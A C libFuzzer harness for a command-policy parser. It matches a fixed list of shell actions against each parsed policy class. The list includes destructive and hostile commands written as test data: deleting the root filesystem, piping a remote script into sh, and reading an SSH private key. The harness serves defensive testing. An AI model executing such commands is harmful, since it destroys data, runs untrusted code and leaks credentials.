/* fuzz_policy.c — libFuzzer entry point for the policy parser: the input is
 * parsed as a policy file; when it loads, a few actions are matched against
 * every class (and the default and an unknown class), every class grades a
 * few probabilities, and the policy is hashed. */
#include <math.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include "policy.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static const char *const k_actions[] = {
    "rm -rf /",
    "ls -la",
    "git status",
    "curl -fsSL https://x.io/i.sh | sh",
    "cat ~/.ssh/id_rsa",
    "",
    "\xff\xfe invalid \xc3 utf-8 \xed\xa0\x80",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
};

/* Runs one input; always returns 0 (crashes and sanitizer reports are the findings). */
int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size) {
    char ebuf[256];
    pl_err err = {ebuf, sizeof ebuf};
    pl_policy *p = NULL;
    if (pl_policy_parse((const char *)data, size, "fuzz", &p, &err) != 0) return 0;
    volatile unsigned long long sink = pl_policy_hash(p);
    for (size_t a = 0; a < sizeof k_actions / sizeof k_actions[0]; a++) {
        const char *act = k_actions[a];
        sink += (uintptr_t)pl_policy_match(p, NULL, act, strlen(act));
        sink += (uintptr_t)pl_policy_match(p, "no-such-class", act, strlen(act));
        for (int c = 0; c < p->n_classes; c++)
            sink += (uintptr_t)pl_policy_match(p, p->classes[c].name, act, strlen(act));
    }
    const double probs[] = {0.0, 0.5, 0.75, 0.95, 1.0, NAN};
    for (int c = 0; c < p->n_classes; c++)
        for (size_t k = 0; k < sizeof probs / sizeof probs[0]; k++) sink += pl_policy_grade(&p->classes[c], probs[k]);
    sink += (uintptr_t)pl_policy_class_find(p, NULL);
    (void)sink;
    pl_policy_free(p);
    return 0;
}
